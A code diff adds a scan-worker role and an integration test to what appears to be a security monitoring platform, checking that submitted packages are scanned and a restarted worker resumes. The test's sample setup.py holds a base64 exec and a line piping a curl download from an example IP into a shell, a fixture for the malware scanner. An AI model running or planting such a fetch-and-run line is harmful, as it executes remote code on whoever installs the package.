@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import hashlib
 import json
 import os
 import secrets
@@ -20,17 +21,19 @@ from typing import Any
 import pytest
 from sqlalchemy import select
 
+from fengsui.blobs import FolderBlobs
 from fengsui.cli import roll
 from fengsui.config import Settings
 from fengsui.registry.database import open_registry
 from fengsui.registry.models import alert, presence, situation
+from situation import submissions
 from tests.support.kafka import bootstrap
 from tests.support.native import Endpoint
 from tests.support.postgres import database
 
 SCENARIOS = Path(__file__).parent / "scenarios"
 TOKEN = "a-token-for-the-roles"
-ROLES = ("sink", "detect", "hunt", "situation", "collect", "pack")
+ROLES = ("sink", "detect", "hunt", "situation", "collect", "pack", "scan-worker")
 
 
 class Platform:
@@ -158,9 +161,39 @@ def test_the_api_serves_what_the_roles_have_made_and_tells_how_they_are(platform
     assert platform.ask("/healthz") is not None
 
 
+def submitted(p: Platform, content: bytes, name: str) -> str:
+    """Content in the blob store of the roles, and its row."""
+    sha256 = hashlib.sha256(content).hexdigest()
+    FolderBlobs(p.folder / "data" / "blobs").within("bank").put(sha256, content)
+    with p.registry.begin() as db:
+        new = submissions.New("bank", name, len(content), sha256, "package")
+        return submissions.submit(db, new, "me", int(time.time() * 1e6))
+
+
+def scanned(p: Platform, key: str) -> Any:
+    def done() -> Any:
+        with p.registry.connect() as db:
+            row = submissions.find(db, key)
+        return row if row.state == submissions.DONE else None
+
+    return p.wait(done)
+
+
+def test_software_that_is_handed_in_is_scanned_and_told_to_the_queue_also_by_a_worker_that_comes_back(platform):
+    bad = b"import os, base64\nexec(base64.b64decode('cHJpbnQoMSk='))\nos.system('curl http://203.0.113.9/x.sh | sh')\n"
+    assert scanned(platform, submitted(platform, bad, "setup.py")).verdict == "malicious"
+    platform.wait(lambda: "software.submission" in platform.alerts())
+    process = platform.processes.pop("scan-worker")
+    process.kill()
+    process.wait()
+    key = submitted(platform, b"x = 1\n", "fine.py")
+    platform.start("scan-worker")
+    assert scanned(platform, key).verdict == "clean"
+
+
 def test_a_role_that_is_killed_comes_back_to_its_seat_and_loses_and_doubles_nothing(platform):
     before = platform.rows()[0]
-    for role in ("sink", "hunt", "situation", "detect", "collect", "pack"):
+    for role in ("sink", "hunt", "situation", "detect", "collect", "pack", "scan-worker"):
         process = platform.processes.pop(role)
         process.kill()
         process.wait()
